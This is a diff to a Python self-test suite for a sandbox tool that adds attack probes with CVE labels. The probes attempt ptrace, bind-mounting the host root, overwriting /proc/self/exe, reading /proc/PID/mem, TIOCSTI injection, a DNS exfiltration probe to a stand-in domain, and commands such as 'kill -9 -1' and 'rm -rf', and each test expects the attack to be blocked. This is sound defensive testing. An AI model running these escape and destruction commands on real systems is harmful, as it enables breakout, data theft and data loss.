@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import os
 import shutil
+import sys
 import tempfile
 import time
 
@@ -234,7 +235,7 @@ def read_host_environ(ctx: AttackContext) -> None:
     no_canary(r, "a host process's environment")
 
 
-@attack("processes", "ptrace another process", requires=["syscall.filter"])
+@attack("processes", "ptrace another process (CVE-2019-13272 class)", requires=["syscall.filter"])
 def ptrace_attach(ctx: AttackContext) -> None:
     # PTRACE_ATTACH (16) to pid 1 of whatever this sandbox sees
     _syscall_refused(ctx, "ptrace", "16, 1, 0, 0", "ptrace(PTRACE_ATTACH)")
@@ -245,7 +246,7 @@ def process_vm_readv(ctx: AttackContext) -> None:
     _syscall_refused(ctx, "process_vm_readv", "1, 0, 0, 0, 0, 0", "process_vm_readv")
 
 
-@attack("processes", "mount a filesystem", requires=["syscall.filter"])
+@attack("processes", "mount a filesystem (cgroup release_agent, CVE-2022-0492 class)", requires=["syscall.filter"])
 def mount_tmpfs(ctx: AttackContext) -> None:
     r = ctx.python(_SYSCALL + "r = libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)\nsys.exit(0 if r < 0 else 42)\n")
     expect(r.returncode == 0, "mount() succeeded")
@@ -274,7 +275,7 @@ def setns_escape(ctx: AttackContext) -> None:
     expect(r.returncode != 42, "setns() succeeded")
 
 
-@attack("processes", "TIOCSTI keystroke injection", requires=["syscall.filter"])
+@attack("processes", "TIOCSTI keystroke injection (CVE-2017-5226)", requires=["syscall.filter"])
 def tiocsti(ctx: AttackContext) -> None:
     master, slave = os.openpty()
     try:
@@ -289,16 +290,28 @@ def tiocsti(ctx: AttackContext) -> None:
     expect(r.returncode == 0, "TIOCSTI injected a keystroke")
 
 
-@attack("processes", "io_uring", requires=["syscall.filter"])
+@attack("processes", "io_uring (socket rules bypass, CVE-2022-29582 class)", requires=["syscall.filter"])
 def io_uring(ctx: AttackContext) -> None:
     _syscall_refused(ctx, "io_uring_setup", "8, ctypes.create_string_buffer(120)", "io_uring_setup")
 
 
-@attack("processes", "bpf, perf_event_open, userfaultfd, keyctl", requires=["syscall.filter"])
-def kernel_attack_surface(ctx: AttackContext) -> None:
+@attack("processes", "bpf() (verifier bugs, CVE-2021-3490 class)", requires=["syscall.filter"])
+def bpf_syscall(ctx: AttackContext) -> None:
     _syscall_refused(ctx, "bpf", "0, 0, 0", "bpf")
+
+
+@attack("processes", "perf_event_open (CVE-2013-2094 class)", requires=["syscall.filter"])
+def perf_event(ctx: AttackContext) -> None:
     _syscall_refused(ctx, "perf_event_open", "ctypes.create_string_buffer(128), 0, -1, -1, 0", "perf_event_open")
+
+
+@attack("processes", "userfaultfd (race-widening for kernel exploits)", requires=["syscall.filter"])
+def userfaultfd(ctx: AttackContext) -> None:
     _syscall_refused(ctx, "userfaultfd", "0", "userfaultfd")
+
+
+@attack("processes", "keyctl (kernel keyrings, CVE-2016-0728 class)", requires=["syscall.filter"])
+def keyctl(ctx: AttackContext) -> None:
     _syscall_refused(ctx, "keyctl", "0, 0, 0", "keyctl")
 
 
@@ -399,3 +412,272 @@ def host_loopback(ctx: AttackContext) -> None:
     finally:
         server.close()
     expect(b"CONNECTED" not in r.stdout, "connected to a host loopback service")
+
+
+@attack("filesystem", "read /sys secrets", requires=["fs.isolation"])
+def read_sys(ctx: AttackContext) -> None:
+    r = ctx.sh("ls /sys 2>&1; cat /sys/class/dmi/id/product_uuid /sys/class/dmi/id/board_serial "
+               "/sys/kernel/security/lsm 2>&1")  # fmt: skip
+    expect(b"class" not in r.stdout.split(b"\n", 1)[0] or r.returncode != 0, "listed /sys")
+    if os.path.exists("/sys/class/dmi/id/product_uuid"):
+        try:
+            with open("/sys/class/dmi/id/product_uuid", "rb") as f:
+                uuid = f.read().strip()
+        except OSError:
+            uuid = b""
+        expect(not uuid or uuid not in r.stdout, "read the machine's product uuid")
+
+
+@attack("filesystem", "write a read-only zone", requires=["fs.isolation"])
+def write_readonly_zone(ctx: AttackContext) -> None:
+    from corral.policy.model import Policy, Zone
+    from corral.policy.resolve import resolve
+
+    rp = resolve(Policy(zones=(Zone.rw(ctx.workspace), Zone.ro(ctx.outside), Zone.tmpfs("/tmp"))), host_env={},
+                 host_cwd=ctx.workspace)  # fmt: skip
+    script = (
+        f"cat {ctx.secret}; echo pwned > {ctx.secret}; touch {ctx.outside}/new; "
+        f"rm -f {ctx.secret}; mv {ctx.secret} {ctx.outside}/moved"
+    )
+    r = ctx.backend.run(rp, ["/bin/sh", "-c", script], sandbox_id="selftest")
+    expect(b"TOP-SECRET-CANARY" in r.stdout, "the read-only zone was not readable")
+    ctx.host_unchanged()
+
+
+@attack("filesystem", "rename over a mount point", requires=["fs.isolation"])
+def rename_mount_point(ctx: AttackContext) -> None:
+    ctx.sh(f"mv {ctx.workspace} {ctx.workspace}.moved; mv /tmp /tmp2; mkdir -p /tmp/x; "
+           f"mv {ctx.workspace}/.. {ctx.root}/x 2>&1")  # fmt: skip
+    expect(os.path.isdir(ctx.workspace), "the workspace was renamed on the host")
+    expect(not os.path.exists(ctx.workspace + ".moved"), "a rename reached the host")
+    ctx.host_unchanged()
+
+
+@attack("filesystem", "write the parent of a zone", requires=["fs.isolation"])
+def write_zone_parent(ctx: AttackContext) -> None:
+    ctx.sh(f"touch {ctx.root}/pwned; mkdir {ctx.root}/pwned-dir; echo x > $(dirname $PWD)/pwned2")
+    expect(set(os.listdir(ctx.root)) == {"workspace", "outside"}, f"wrote beside the zone: {os.listdir(ctx.root)}")
+
+
+@attack("filesystem", "bind mount the host root", requires=["syscall.filter"])
+def bind_mount_root(ctx: AttackContext) -> None:
+    r = ctx.sh("mkdir -p /tmp/r && mount --bind / /tmp/r && ls /tmp/r/root && echo MOUNTED")
+    expect(b"MOUNTED" not in r.stdout, "bind-mounted /")
+
+
+@attack("filesystem", "overwrite the runtime through /proc/self/exe (CVE-2019-5736)", requires=["fs.isolation"])
+def overwrite_proc_exe(ctx: AttackContext) -> None:
+    import hashlib
+
+    before = {}
+    for path in {os.path.realpath(sys.executable), _bwrap_path()} - {""}:
+        with open(path, "rb") as f:
+            before[path] = hashlib.sha256(f.read()).hexdigest()
+    r = ctx.python(
+        "import os\nfor p in ('/proc/self/exe', '/proc/1/exe', '/proc/2/exe'):\n"
+        "    try:\n        fd = os.open(p, os.O_WRONLY)\n        os.write(fd, b'pwned')\n        print('WROTE', p)\n"
+        "    except OSError:\n        pass\n"
+    )
+    expect(b"WROTE" not in r.stdout, "opened a runtime binary for writing")
+    for path, digest in before.items():
+        with open(path, "rb") as f:
+            expect(hashlib.sha256(f.read()).hexdigest() == digest, f"{path} changed on the host")
+
+
+def _bwrap_path() -> str:
+    try:
+        from corral.backends.namespace.launch import find_bwrap
+
+        return os.path.realpath(find_bwrap().path)
+    except Exception:
+        return ""
+
+
+@attack("processes", "signal a host process", requires=["fs.isolation"])
+def signal_host_process(ctx: AttackContext) -> None:
+    import subprocess
+
+    from corral.errors import SandboxLost
+
+    victim = subprocess.Popen(["sleep", "60"])
+    try:
+        try:
+            ctx.sh(f"kill -9 {victim.pid}; kill -STOP {os.getpid()}; kill -9 -1")
+        except SandboxLost:
+            pass  # `kill -9 -1` may take down the sandbox's own agent: that hurts only the sandbox
+        time.sleep(0.2)
+        expect(victim.poll() is None, "killed a host process")
+    finally:
+        victim.kill()
+        victim.wait()
+
+
+@attack("processes", "read another process's memory through /proc/PID/mem", requires=["syscall.filter"])
+def proc_pid_mem(ctx: AttackContext) -> None:
+    r = ctx.sh(f"sleep 5 & p=$!; dd if=/proc/$p/mem bs=1 count=1 skip=4194304 2>&1; "
+               f"dd if=/proc/{os.getpid()}/mem bs=1 count=16 2>&1; dd if=/proc/1/mem bs=1 count=16 2>&1; "
+               "head -c 64 /proc/1/environ; kill $p")  # fmt: skip
+    no_canary(r, "/proc/PID/mem")
+    expect(b"records in" not in r.stdout or b"1+0 records in" not in r.stdout, "read another process's memory")
+
+
+@attack("processes", "chroot escape", requires=["syscall.filter"])
+def chroot_escape(ctx: AttackContext) -> None:
+    r = ctx.python("import os, sys\ntry:\n    os.chroot('/tmp')\nexcept OSError:\n    sys.exit(0)\nsys.exit(42)\n")
+    expect(r.returncode == 0, "chroot() succeeded")
+
+
+@attack("processes", "TIOCLINUX console injection", requires=["syscall.filter"])
+def tioclinux(ctx: AttackContext) -> None:
+    master, slave = os.openpty()
+    try:
+        r = ctx.python(
+            "import fcntl, sys\n"
+            "try:\n    fcntl.ioctl(0, 0x541C, bytes([2, 0, 0, 0, 0, 0, 0]))\nexcept OSError as e:\n"
+            "    sys.exit(0 if e.errno == 1 else 3)\nsys.exit(42)\n",
+            stdin=slave,
+        )
+    finally:
+        os.close(slave)
+        os.close(master)
+    expect(r.returncode == 0, f"TIOCLINUX was not refused by the filter (exit {r.returncode})")
+
+
+# ------------------------------------------------------------------ network
+@attack("network", "raw and packet sockets", requires=["syscall.filter"])
+def raw_sockets(ctx: AttackContext) -> None:
+    r = ctx.python(
+        "import socket\nfor args in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 0)):\n"
+        "    try:\n        socket.socket(*args)\n        print('OPENED', args)\n    except OSError:\n        pass\n"
+    )
+    expect(b"OPENED" not in r.stdout, f"opened a raw socket: {r.stdout_text}")
+
+
+@attack("network", "netlink sockets other than route", requires=["syscall.filter"])
+def netlink_sockets(ctx: AttackContext) -> None:
+    r = ctx.python(
+        "import socket\nfor proto in (9, 15, 4, 16):  # audit, kobject_uevent, sock_diag, generic\n"
+        "    try:\n        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, proto)\n        print('OPENED', proto)\n"
+        "    except OSError:\n        pass\n"
+    )
+    expect(b"OPENED" not in r.stdout, f"opened a netlink socket: {r.stdout_text}")
+
+
+@attack("network", "a host service's unix socket", requires=["fs.isolation"])
+def host_unix_socket(ctx: AttackContext) -> None:
+    import socket
+
+    path = os.path.join(ctx.outside, "service.sock")
+    server = socket.socket(socket.AF_UNIX)
+    server.bind(path)
+    server.listen(1)
+    abstract = socket.socket(socket.AF_UNIX)
+    name = f"corral-selftest-{os.getpid()}-{time.monotonic_ns()}"
+    abstract.bind("\0" + name)
+    abstract.listen(1)
+    try:
+        r = ctx.python(
+            f"import socket\nfor addr in ({path!r}, {chr(0) + name!r}):\n    s = socket.socket(socket.AF_UNIX)\n"
+            "    try:\n        s.connect(addr)\n        print('CONNECTED', repr(addr))\n    except OSError:\n"
+            "        pass\n"
+        )
+    finally:
+        server.close()
+        abstract.close()
+        os.unlink(path)
+    expect(b"CONNECTED" not in r.stdout, f"reached a host unix socket: {r.stdout_text}")
+
+
+@attack("network", "UDP to the host's loopback", requires=["net.none"])
+def host_udp(ctx: AttackContext) -> None:
+    import socket
+
+    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    server.bind(("127.0.0.1", 0))
+    server.settimeout(1.0)
+    port = server.getsockname()[1]
+    try:
+        ctx.python(f"import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+                   f"s.sendto(b'TOP-SECRET-CANARY', ('127.0.0.1', {port}))")  # fmt: skip
+        try:
+            data = server.recv(100)
+        except OSError:
+            data = b""
+    finally:
+        server.close()
+    expect(b"CANARY" not in data, "a datagram reached the host")
+
+
+@attack("network", "DNS exfiltration", requires=["net.none"])
+def dns_exfiltration(ctx: AttackContext) -> None:
+    r = ctx.python(
+        "import socket\ntry:\n    print(socket.getaddrinfo('canary-secret.example.com', 53))\n    print('RESOLVED')\n"
+        "except OSError:\n    pass\n",
+        timeout=20,
+    )
+    expect(b"RESOLVED" not in r.stdout, "a name was resolved (DNS left the sandbox)")
+
+
+# ------------------------------------------------------------------ resources
+@attack("resources", "fill a tmpfs", requires=["fs.tmpfs"])
+def fill_tmpfs(ctx: AttackContext) -> None:
+    r = ctx.sh("head -c 200000000 /dev/zero > ${TMPDIR:-/tmp}/fill; ls -l ${TMPDIR:-/tmp}/fill", timeout=60)
+    size = 0
+    for word in r.stdout.split():
+        if word.isdigit():
+            size = max(size, int(word))
+    expect(size <= 64 << 20 or ctx.backend.name != "namespace", f"wrote {size} bytes to a 64 MiB tmpfs")
+
+
+# ------------------------------------------------------------------ information
+@attack("information", "the host's name", requires=["proc.isolation"])
+def host_name(ctx: AttackContext) -> None:
+    import socket
+
+    r = ctx.sh("hostname; uname -n; cat /etc/hostname")
+    host = socket.gethostname().encode()
+    expect(host == b"corral" or host not in r.stdout, f"saw the host name {host!r}")
+
+
+@attack("information", "another sandbox's files", requires=["fs.tmpfs"])
+def other_sandbox_files(ctx: AttackContext) -> None:
+    ctx.sh("echo TOP-SECRET-CANARY > ${TMPDIR:-/tmp}/left-behind")
+    r = ctx.sh("cat ${TMPDIR:-/tmp}/left-behind; ls ${TMPDIR:-/tmp}")
+    no_canary(r, "a file from an earlier sandbox")
+
+
+@attack("information", "the audit log", requires=["fs.isolation"])
+def audit_log(ctx: AttackContext) -> None:
+    import corral.sandbox
+
+    log = os.path.join(ctx.outside, "audit.jsonl")
+    with open(log, "w") as f:
+        f.write('{"event": "TOP-SECRET-CANARY"}\n')
+    policy = ctx.policy()
+    r = corral.sandbox.run(["/bin/sh", "-c", f"cat {log}; echo forged >> {log}"], policy=policy,
+                           backend=ctx.backend.name, audit=log)  # fmt: skip
+    no_canary(r, "the audit log")
+    with open(log) as f:
+        expect("forged\n" not in f.read().splitlines(keepends=True), "wrote into the audit log")
+    os.unlink(log)
+
+
+@attack("policy", "a denied command is refused and audited")
+def denied_command_audited(ctx: AttackContext) -> None:
+    import json
+
+    import corral.sandbox
+    from corral.policy.model import Commands
+
+    log = os.path.join(ctx.root, "audit.jsonl")
+    policy = ctx.policy().replace(commands=Commands(deny=["rm"]))
+    r = corral.sandbox.run(["sh", "-c", f"rm -rf {ctx.workspace}"], policy=policy, backend=ctx.backend.name,
+                           audit=log)  # fmt: skip
+    expect(r.reason == "denied", f"the command was not denied ({r.reason})")
+    expect(os.path.isdir(ctx.workspace), "the workspace was removed")
+    with open(log) as f:
+        events = [json.loads(line) for line in f]
+    expect(
+        any(e.get("event") == "decision" and e.get("action") == "deny" for e in events), "no denial in the audit log"
+    )
+    os.unlink(log)
